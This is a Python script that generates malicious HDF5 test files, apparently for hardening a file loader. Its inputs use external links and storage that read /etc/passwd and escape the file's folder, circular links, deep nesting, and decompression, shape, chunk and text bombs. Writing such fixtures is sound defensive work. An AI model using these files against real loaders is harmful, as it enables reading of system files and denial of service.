#!/usr/bin/env python3
"""Makes hostile HDF5 files: each does what has been done to other loaders.

usage: make.py [FOLDER]     FOLDER is this file's without it; needs h5py
"""

import sys
from pathlib import Path

import h5py
import numpy as np

FOLDER = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent


def file(name, **options):
    return h5py.File(FOLDER / name, "w", **options)


def main():
    # Paths out of the file.
    with file("external-link.h5") as f:
        f["secret"] = h5py.ExternalLink("/etc/passwd", "/root")
        f["neighbour"] = h5py.ExternalLink("../target.h5", "/data")
    with file("soft-link-circle.h5") as f:
        f["a"] = h5py.SoftLink("/b")
        f["b"] = h5py.SoftLink("/a")
    with file("external-storage.h5") as f:
        f.create_dataset("weights", (4,), "u1", external=[("/etc/passwd", 0, 4)])
        f.create_dataset("above", (4,), "u1", external=[("../target.bin", 0, 4)])
    with file("virtual-elsewhere.h5", libver="latest") as f:
        layout = h5py.VirtualLayout((4,), "u1")
        layout[:] = h5py.VirtualSource("/etc/hdf5/secret.h5", "data", (4,))
        f.create_virtual_dataset("weights", layout)

    # Circles.
    with file("virtual-circle.h5", libver="latest") as f:
        for name, other in [("a", "b"), ("b", "a")]:
            layout = h5py.VirtualLayout((4,), "u1", maxshape=(None,))
            source = h5py.VirtualSource(".", other, (4,), maxshape=(None,))
            layout[: h5py.h5s.UNLIMITED] = source[: h5py.h5s.UNLIMITED]
            f.create_virtual_dataset(name, layout)
    with file("group-circle.h5") as f:
        inner = f.create_group("inner")
        inner["again"] = f["/"]
    with file("deep-groups.h5", libver="latest") as f:
        group = f
        for _ in range(200):
            group = group.create_group("g")
    with file("deep-type.h5") as f:
        kind = np.dtype("u1")
        for _ in range(20):
            kind = np.dtype([("m", kind)])
        vlen = h5py.vlen_dtype(kind)
        f.create_dataset("nested", (1,), vlen)

    # Bombs.
    with file("shape-bomb.h5") as f:
        f.create_dataset("weights", (1 << 20, 1 << 30), "f8", chunks=(1024, 1024))
        f.create_dataset("contiguous", (1 << 50,), "f8")
    with file("decompression-bomb.h5") as f:
        f.create_dataset("weights", data=np.zeros(1 << 27, "u1"), chunks=(1 << 27,), compression="gzip", compression_opts=9)
    with file("many-bombs.h5") as f:
        for index in range(24):
            f.create_dataset(f"weights{index}", data=np.zeros(1 << 22, "u1"), chunks=(1 << 22,), compression="gzip", compression_opts=9)
    with file("chunk-bomb.h5", libver="latest") as f:
        f.create_dataset("weights", (1 << 40,), "u1", chunks=(1,), maxshape=(None,))
    with file("text-bomb.h5") as f:
        # One text of 64 KiB in the heap, to which the elements of a dataset refer again and again.
        data = f.create_dataset("texts", (4096,), h5py.string_dtype())
        data[0] = "a" * (1 << 16)
        offset = data.id.get_offset()
    with open(FOLDER / "text-bomb.h5", "r+b") as raw:
        raw.seek(offset)
        reference = raw.read(16)
        raw.seek(offset)
        raw.write(reference * 4096)


if __name__ == "__main__":
    main()
